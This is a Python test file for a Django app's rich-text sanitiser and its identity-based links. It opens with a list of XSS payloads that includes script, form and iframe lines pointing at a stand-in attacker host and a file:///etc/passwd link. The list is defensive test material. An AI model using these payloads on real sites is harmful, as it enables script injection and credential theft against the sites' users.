"""What rich text lets through, and how its links stay true."""

from __future__ import annotations

import re
from html import unescape
from typing import Any

import html5lib
import pytest
from django.utils.html import escape, strip_tags
from hypothesis import example, given
from hypothesis import strategies as st

from articles.models import Comparison, Page
from careers.models import Role
from publishing.addresses import live_paths
from publishing.publish import publish
from publishing.revisions import record
from publishing.richtext import document_ids, plain, quote, quotes, sanitise, to_identities, with_paths, with_quotes
from publishing.withdraw import withdraw
from tests.builders import make_draft, make_live, make_role, make_user, revise

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<p onclick="alert(1)">x</p>',
    "<p onmouseover=alert(1)//>x</p>",
    '<a href="https://example.org" onfocus="alert(1)" autofocus>x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>*{background:url(//evil.example)}</style>",
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="//evil.example"><input name=password><button>Go</button></form>',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="alert(1)">',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p id="content" class="masthead" name="x" contenteditable>x</p>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)>x</details>",
    "<isindex type=image src=1 onerror=alert(1)>",
]
ALLOWED = {
    "p", "strong", "em", "h2", "h3", "h4", "ul", "ol", "li", "a", "blockquote",
    "table", "tbody", "tr", "th", "td", "br",
}  # fmt: skip


def dangers(html: str) -> list[str]:
    """Parse the HTML as a browser does, and return every tag, attribute and address in it that has no place there."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in ALLOWED:
            found.append(str(element.tag))
        for name, value in element.attrib.items():
            allowed = (
                name in {"href", "title", "rel"} if element.tag == "a" else name in {"colspan", "rowspan", "start"}
            )
            if not allowed or (
                name == "href" and not value.startswith(("https:", "http:", "mailto:", "doc:", "/", "#"))
            ):
                found.append(f"{name}={value}")
    return found


# The sanitiser


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_not_stored_by_full_clean(attack: str) -> None:
    role = Role(title="Ash", slug="ash", summary=attack)
    role.full_clean(exclude=["document_ptr"])
    assert dangers(role.summary) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_that_was_saved_unchecked_is_not_kept_by_a_revision(attack: str) -> None:
    role = make_role()
    Role.objects.filter(pk=role.pk).update(summary=f"<p>Before</p>{attack}", duties=attack)
    content = record(Role.objects.get(pk=role.pk), by=make_user()).content
    assert dangers(content["summary"]) == dangers(content["duties"]) == []
    assert content["summary"].startswith("<p>Before</p>")


@pytest.mark.parametrize(
    "html",
    [
        "<p>Plain, <strong>bold</strong>, <em>italic</em><br>and a new line</p>",
        "<h3>Heading</h3><ul><li><p>One</p></li></ul><ol><li><p>Two</p></li></ol>",
        "<blockquote><p>Said</p></blockquote>",
        "<table><tbody><tr><th><p>Name</p></th></tr><tr><td><p>Ash</p></td></tr></tbody></table>",
    ],
)
def test_what_the_editor_writes_is_kept(html: str) -> None:
    assert sanitise(html) == html


def test_an_empty_editor_is_an_empty_text() -> None:
    assert sanitise("<p></p>") == ""
    assert sanitise('<a><a href="figure:x">') == ""


def test_a_link_that_stood_around_a_figure_leaves_the_figure_as_it_should_be() -> None:
    once = sanitise('<a href="figure:x"><table><tr><td><a href="figure:a/median_pay"><p onclick=x>')
    assert sanitise(once) == once


FRAGMENTS = st.lists(
    st.sampled_from(
        [*ATTACKS, "<p>", "</p>", "<table>", "<td>", "<a href='/roles/'>", "<b>", "&amp;", "&lt;", '"', "doc:1"]
    )
    | st.text(max_size=8)
).map("".join)


@given(html=FRAGMENTS)
def test_sanitising_twice_changes_no_more_than_once(html: str) -> None:
    once = sanitise(html)
    assert sanitise(once) == once
    assert dangers(once) == []


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One Two"),
        ("<ul><li><p>A</p></li><li><p>B</p></li></ul>", "A B"),
        ("<p>a<br>b</p>", "a b"),
        ("<p>R&amp;D &lt;3</p>", "R&D <3"),
        ("<p>un<strong>break</strong>able</p>", "unbreakable"),
        ("<table><tr><th>A</th><td>B</td></tr></table>", "A B"),
        ("", ""),
    ],
)
def test_plain_text_keeps_words_apart(html: str, text: str) -> None:
    assert plain(html) == text


@given(html=FRAGMENTS | st.text(alphabet="ab <>&\"'/=!-", max_size=20))
def test_plain_text_of_what_is_stored_is_what_a_parser_finds(html: str) -> None:
    stored = sanitise(html)
    spaced = re.sub(r"</(p|li|h\d|t[dhr]|blockquote)>|<br>", " ", stored)
    assert plain(stored) == " ".join(unescape(strip_tags(spaced)).split())


# Links by identity


def link(href: str, text: str = "Ash") -> str:
    return sanitise(f'<p><a href="{href}">{text}</a></p>')


def shown(html: str) -> str:
    """Return what readers get of stored HTML."""
    return with_paths(html, live_paths(document_ids(html)))


@pytest.mark.parametrize("kind", [Role, Comparison, Page])
def test_a_link_to_a_document_is_stored_by_identity(kind: Any) -> None:
    document = make_live(kind)
    assert to_identities(link(document.working_path())) == link(f"doc:{document.pk}")


def test_full_clean_stores_links_by_identity() -> None:
    ash = make_live(Role, slug="ash")
    role = make_role(summary='<p><a href="/roles/ash/#pay">Ash</a></p>')
    assert f'href="doc:{ash.pk}#pay"' in role.summary


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org/roles/ash/",
        "//example.org/roles/ash/",
        "//[roles/ash/",
        "mailto:ash@example.org",
        "#pay",
        "/roles/",
        "/nobody/",
        "roles/ash/",
    ],
)
def test_any_other_link_stays_as_it_is(href: str) -> None:
    make_live(Role, slug="ash")
    assert to_identities(link(href)) == link(href)


def test_a_link_follows_a_slug_that_changes() -> None:
    role = make_live(Role, slug="ash")
    stored = to_identities(link("/roles/ash/"))
    publish(revise(role, slug="alder"), by=make_user())
    assert shown(stored) == link("/roles/alder/")


def test_a_link_keeps_the_part_that_it_points_to() -> None:
    make_live(Role, slug="ash")
    assert shown(to_identities(link("/roles/ash/#pay&amp;more"))) == link("/roles/ash/#pay&amp;more")


def test_a_link_to_what_is_not_live_is_plain_text() -> None:
    draft, role = make_draft(Role, slug="draft"), make_live(Role, slug="ash")
    stored = to_identities(link("/roles/draft/", "<strong>Draft</strong>") + link("/roles/ash/"))
    assert document_ids(stored) == {draft.pk, role.pk}
    withdraw([role], by=make_user())
    assert shown(stored) == "<p><strong>Draft</strong></p><p>Ash</p>"


def test_a_link_to_a_document_that_never_was_is_plain_text() -> None:
    assert shown(link("doc:999999")) == "<p>Ash</p>"


@pytest.mark.parametrize(
    "href", ["doc:", "doc:ash", "doc:12x", "doc://12", "doc:12?x=1", "DOC:12", " doc:x", f"doc:{10**30}", "doc:１２"]
)
def test_an_identity_that_is_none_never_reaches_readers(href: str) -> None:
    assert "doc:" not in shown(link(href))


def test_several_links_are_told_apart() -> None:
    ash, birch = make_live(Role, slug="ash"), make_live(Role, slug="birch")
    html = f"{link('/roles/ash/')}{link('https://example.org')}{link('/roles/birch/#pay')}"
    stored = to_identities(html)
    assert document_ids(stored) == {ash.pk, birch.pk}
    assert shown(stored) == html


@given(text=st.text(), fragment=st.text(alphabet="az-_&\"'<>", max_size=6))
@example(text="</a><a href='doc:1'>", fragment="")
def test_whatever_a_link_says_it_stays_one_that_passed_the_sanitiser(text: str, fragment: str) -> None:
    html = sanitise(f'<p><a href="doc:7#{escape(fragment)}">{escape(text)}</a></p>')
    assert dangers(with_paths(html, {7: "/roles/ash/"})) == []
    assert dangers(with_paths(html, {})) == []


# The editor


def field() -> Any:
    return Role._meta.get_field("summary").formfield()


def test_the_editor_shows_paths_of_the_working_copies() -> None:
    role = make_live(Role, slug="ash")
    revise(role, slug="draft")
    assert field().prepare_value(link(f"doc:{role.pk}#pay")) == link("/roles/draft/#pay")


@pytest.mark.parametrize("value", [None, "", "<p>No link</p>"])
def test_the_editor_shows_other_text_as_it_is(value: Any) -> None:
    assert field().prepare_value(value) == value


def test_an_identity_that_is_shown_as_a_path_is_no_change() -> None:
    role = make_live(Role, slug="ash")
    stored = link(f"doc:{role.pk}")
    assert not field().has_changed(stored, field().prepare_value(stored))
    assert field().has_changed(stored, "<p>Ash</p>")


def test_what_the_sanitiser_would_drop_is_no_change() -> None:
    assert not field().has_changed("<p>Ash</p>", '<p class="x">Ash</p>')
    assert not field().has_changed("", "<p></p>")
    assert not field().has_changed(None, None)


def test_a_field_offers_only_its_own_headings() -> None:
    body = Page._meta.get_field("body")
    assert body.config["extensions"]["Heading"] == {"levels": [2, 3]}
    assert Role._meta.get_field("summary").config["extensions"]["Heading"] == {"levels": [3, 4]}


# Figures by what they are


@pytest.mark.parametrize(
    ("html", "stored"),
    [
        ('<a href="figure:a/median_pay">pay</a>', '<a href="figure:a/median_pay">pay</a>'),
        ('<a href="figure:self/employment" title="x" rel="y">p</a>', '<a href="figure:self/employment">p</a>'),
        (
            '<a href="figure:a/median_pay"><strong>R&amp;D</strong> pay</a>',
            '<a href="figure:a/median_pay">R&amp;D pay</a>',
        ),
        ('<a href="figure:a">pay</a>', "pay"),
        ('<a href="figure:A/median_pay">pay</a>', "pay"),
        ('<a href="FIGURE:a/median_pay">pay</a>', "pay"),
        ('<a href=" figure:a/median_pay">pay</a>', "pay"),
        ('<a href="fig&#10;ure:a/median_pay">pay</a>', "pay"),
        ('<a href="figure://a/median_pay"><em>pay</em></a>', "<em>pay</em>"),
        ('<a href="figure:a/median_pay#x">pay</a>', "pay"),
    ],
)
def test_a_quote_is_kept_and_nothing_else_of_its_scheme(html: str, stored: str) -> None:
    assert sanitise(html) == stored


@given(rest=st.text(alphabet=" \t\n/:#?abself_median'\"&<>é", max_size=16), text=st.text(max_size=8))
@example(rest="a/median_pay", text="</a><script>")
def test_whatever_follows_the_scheme_a_link_of_it_is_a_quote_or_none(rest: str, text: str) -> None:
    html = sanitise(f'<p>x <a href="figure:{escape(rest)}">{escape(text)}</a></p>')
    found = [a.get("href") for a in html5lib.parseFragment(html, namespaceHTMLElements=False).iter("a")]
    assert found == [f"figure:{name}" for name, _ in quotes(html)]
    assert sanitise(html) == html
    assert dangers(with_quotes(html, lambda name, words: escape(words))) == []


def test_a_quote_is_written_out_where_it_stands_and_reads_well_without() -> None:
    html = (
        f"<p>They earn {quote('a/median_pay', 'median pay of R&D <staff>')}, see {quote('b/x', 'b')}.</p>{link('/x/')}"
    )
    assert quotes(html) == [("a/median_pay", "median pay of R&D <staff>"), ("b/x", "b")]
    assert plain(html) == "They earn median pay of R&D <staff>, see b. Ash"
    written = with_quotes(html, lambda name, words: f"<b>{name}</b>")
    assert written == f"<p>They earn <b>a/median_pay</b>, see <b>b/x</b>.</p>{link('/x/')}"


def test_links_by_identity_leave_quotes_alone() -> None:
    html = sanitise(f"<p>{quote('a/median_pay', 'pay')}</p>")
    assert to_identities(html) == shown(html) == html
    assert document_ids(html) == set()
    assert not field().has_changed(html, html)
